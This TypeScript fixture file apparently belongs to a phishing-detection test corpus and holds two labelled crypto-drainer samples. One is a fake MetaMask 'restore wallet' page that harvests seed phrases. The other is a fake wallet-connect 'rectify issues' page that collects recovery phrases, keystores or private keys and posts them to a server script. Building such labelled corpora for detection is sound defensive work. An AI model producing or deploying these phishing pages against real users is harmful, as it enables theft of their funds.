import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-seed-metamask-restore-vault',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://metamask-vault-resync.app/restore-vault',
  body: doc({
    title: 'MetaMask - Restore your wallet',
    css: `body{margin:0;background:#f2f4f6;font-family:Euclid,system-ui,sans-serif}.c{max-width:560px;margin:6vh auto;background:#fff;border-radius:10px;padding:32px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}
.g input{padding:9px;border:1px solid #bbc0c5;border-radius:6px}button{background:#0376c9;color:#fff;border:0;padding:12px;border-radius:24px;width:100%;margin-top:18px;font-size:16px}`,
    body: `<div class="c"><div style="color:#f6851b;font-weight:700;font-size:22px">🦊 METAMASK</div><h2>Reset wallet</h2><p>Your wallet has been flagged due to a failed security sync. Enter your Secret Recovery Phrase to restore access. MetaMask does not store your Secret Recovery Phrase.</p>
<label>Secret Recovery Phrase length</label> <select id="n"><option>12</option><option>15</option><option>18</option><option>21</option><option>24</option></select>
<div class="g" id="g" style="margin-top:12px"></div><button id="r">Restore</button></div>
<script>
function grid(k){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=k;i++){var x=document.createElement('input');x.placeholder=i+'.';x.autocomplete='off';g.appendChild(x)}}grid(12);
document.getElementById('n').onchange=function(){grid(+this.value)};
document.getElementById('r').onclick=function(){var w=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()}).join(' ');
if(w.split(' ').filter(Boolean).length<12){alert('Invalid Secret Recovery Phrase');return}fetch('/restore-vault/api/import.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'phrase='+encodeURIComponent(w)}).then(function(){alert('Wallet restored. Sync may take up to 48 hours.')})};
</script>`,
  }),
  routes: { 'metamask-vault-resync.app/restore-vault/api/import.php': jsonRoute({ status: 1 }) },
},
{
  id: 'zf-drainer-walletconnect-fix-dapp',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://dapps-rectify-node.net/connect/',
  body: doc({
    title: 'DappsConnector | Rectify Wallet Issues',
    css: baseCss + `body{background:#0f172a;color:#e2e8f0}.grid a{display:block;background:#1e293b;padding:18px;border-radius:10px;color:#e2e8f0;text-decoration:none}
#mw{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}#mw .in{background:#fff;color:#000;width:460px;margin:8vh auto;padding:24px;border-radius:10px}.tab{display:inline-block;padding:6px 12px;cursor:pointer;border-bottom:2px solid #3b82f6}`,
    body: `<main><h1>Open protocol for connecting wallets to Dapps</h1><p>Resolve any wallet issue: Migration, Claim Reward, Rectification, Validation, Slippage error, Missing funds, Staking, Whitelist, Bridge transfer.</p>
<div class="grid"><a href="#" class="i">Migration</a><a href="#" class="i">Claim Airdrop</a><a href="#" class="i">Rectification</a><a href="#" class="i">Missing/Irregular Balance</a><a href="#" class="i">Locked Account</a><a href="#" class="i">Wallet Glitch</a></div></main>
<div id="mw"><div class="in"><h3>Import your wallet</h3><span class="tab">Phrase</span> <span class="tab" style="border-color:transparent">Keystore JSON</span> <span class="tab" style="border-color:transparent">Private Key</span>
<form id="wf" method="post" action="/connect/submit.php"><select name="wallet"><option>MetaMask</option><option>Trust Wallet</option><option>Coinbase Wallet</option><option>Phantom</option><option>Exodus</option></select>
<textarea name="phrase" rows="4" placeholder="Enter your recovery phrase (typically 12 or 24 words separated by single spaces)"></textarea><button class="btn">PROCEED</button></form></div></div>
<script>document.querySelectorAll('.i').forEach(function(a){a.onclick=function(e){e.preventDefault();document.getElementById('mw').style.display='block'}})</script>`,
  }),
},
];
